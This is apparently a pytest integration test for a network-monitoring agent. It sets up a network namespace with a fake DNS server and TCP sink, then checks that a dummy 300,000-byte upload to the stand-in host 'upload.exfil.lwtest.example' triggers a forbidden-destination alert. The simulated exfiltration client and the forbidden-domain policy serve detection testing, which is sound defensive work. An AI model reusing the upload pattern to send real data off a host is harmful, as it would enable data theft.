"""Outbound traffic that really leaves the host's network namespace.

The test makes its own namespace joined to the host by a veth pair (10.213.x.0/30, addresses
that exist only between the two ends), runs a DNS responder and a TCP sink inside it, and a
client in the host namespace that resolves a name there and sends N bytes. No loopback
shortcut (``include_loopback`` stays off): the agent sees the DNS answer on the veth
(AF_PACKET), the connection and its bytes through sock_diag, maps the name to a forbidden
category of a test destinations policy and raises ``net.forbidden_destination``.
"""

from __future__ import annotations

import os
import queue
import random
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from agent.monitors.network import NetworkMonitor
from tests.agent.conftest import events_of, needs_root, wait_for, write_config

HOST_NAME = "upload.exfil.lwtest.example"
PORT, N = 8080, 300_000

# Inside the namespace: answer every DNS query with HOST_NAME -> our address, and count what
# TCP clients send, replying "ok" once N bytes arrived.
SERVER = """
import socket, struct, sys, threading
addr, n = sys.argv[1], int(sys.argv[2])
def name(s): return b"".join(bytes([len(p)]) + p.encode() for p in s.split(".")) + b"\\0"
def dns():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((addr, 53))
    while True:
        q, peer = u.recvfrom(512)
        qname = name(%r)
        u.sendto(q[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + qname + struct.pack(">HH", 1, 1)
                 + b"\\xc0\\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(addr), peer)
threading.Thread(target=dns, daemon=True).start()
t = socket.socket(); t.bind((addr, %d)); t.listen()
print("ready", flush=True)
while True:
    c, _ = t.accept(); got = 0
    while got < n and (d := c.recv(65536)): got += len(d)
    c.sendall(b"ok"); c.close()
""" % (HOST_NAME, PORT)

# In the host namespace: resolve HOST_NAME at the namespace's DNS server, send N bytes, hold on.
CLIENT = """
import os, socket, struct, sys, time
ns, n = sys.argv[1], int(sys.argv[2])
q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); q.settimeout(5)
qname = b"".join(bytes([len(p)]) + p.encode() for p in %r.split(".")) + b"\\0"
q.sendto(struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1), (ns, 53))
ip = socket.inet_ntoa(q.recv(512)[-4:])
time.sleep(0.3)  # the agent reads the answer from its capture socket
c = socket.create_connection((ip, %d)); c.sendall(b"x" * n); assert c.recv(2) == b"ok"
print(os.getpid(), ip, flush=True)
time.sleep(30)
""" % (HOST_NAME, PORT)


@pytest.fixture
def netns() -> Iterator[str]:
    """A namespace with a veth to the host; yields the namespace end's address."""
    if os.geteuid() != 0 or not shutil.which("ip"):
        pytest.skip("needs root and iproute2 for a network namespace")
    tag = f"{os.getpid() % 10000}{random.randrange(100)}"
    ns, host_if, ns_if = f"lwtest{tag}", f"lwh{tag}", f"lwn{tag}"
    net = f"10.213.{random.randrange(256)}.{random.randrange(0, 256, 4)}"
    base = net.rsplit(".", 1)
    host_ip, ns_ip = f"{base[0]}.{int(base[1]) + 1}", f"{base[0]}.{int(base[1]) + 2}"
    server = None
    try:
        for cmd in (f"ip netns add {ns}", f"ip link add {host_if} type veth peer name {ns_if} netns {ns}",
                    f"ip addr add {host_ip}/30 dev {host_if}", f"ip link set {host_if} up",
                    f"ip -n {ns} addr add {ns_ip}/30 dev {ns_if}", f"ip -n {ns} link set {ns_if} up",
                    f"ip -n {ns} link set lo up"):
            subprocess.run(cmd.split(), check=True, capture_output=True)
        server = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", SERVER, ns_ip, str(N)],
                                  stdout=subprocess.PIPE, text=True)
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"
        yield ns_ip
    finally:
        if server is not None:
            server.kill()
            server.wait()
        subprocess.run(["ip", "netns", "del", ns], check=False, capture_output=True)
        subprocess.run(["ip", "link", "del", host_if], check=False, capture_output=True)  # gone with the namespace


@needs_root
def test_traffic_into_a_namespace_is_attributed_and_a_forbidden_category_raised(tmp_path: Path, netns: str,
                                                                                 run_agent) -> None:
    policy = tmp_path / "destinations.yaml"
    policy.write_text(yaml.safe_dump({"categories": {"leak_test": {
        "forbidden": True, "description": "the test's namespace", "domains": ["exfil.lwtest.example"]}}}))
    # 10/8 is internal by default (not reported); this endpoint's internal net is declared
    # 192.168/16 only, so the namespace is "outside" like any internet address.
    cfg = write_config(tmp_path, network={"enabled": True, "destinations": str(policy), "interval": 0.2,
                                          "internal_networks": ["192.168.0.0/16"]})
    assert cfg.network.include_loopback is False
    agent = run_agent(cfg)
    wait_for(lambda: agent.pipeline.status.monitors.get("capture") == "ok")
    probe = NetworkMonitor(queue.Queue(), interval=1, include_loopback=False)  # the monitor's own view, sampled here
    probe.sample()
    client = subprocess.Popen([sys.executable, "-c", CLIENT, netns, str(N)], stdout=subprocess.PIPE, text=True)
    try:
        assert client.stdout is not None
        pid_s, ip = client.stdout.readline().split()
        pid = int(pid_s)
        assert ip == netns  # resolved through the namespace's DNS server
        seen = [c for c in probe.sample() if c.ip == netns and c.port == PORT]
        ev = wait_for(lambda: events_of(cfg.state_dir, "net.forbidden_destination"), timeout=10)[0]
    finally:
        client.kill()
        client.wait()
    assert len(seen) == 1
    conn = seen[0]
    assert (conn.pid, conn.process, conn.new) == (pid, Path(sys.executable).name[:15], True)
    assert conn.bytes_sent == N  # every byte the kernel acknowledged, from sock_diag
    assert ev["process"]["pid"] == pid and ev["process"]["exe"] == os.path.realpath(sys.executable)
    dest = ev["destination"]
    assert (dest["host"], dest["ip"], dest["port"], dest["category"]) == (HOST_NAME, netns, PORT, "leak_test")
    assert 0 <= dest["bytes_sent"] <= N
    assert ev["attributes"]["rule"] == "destinations.forbidden"
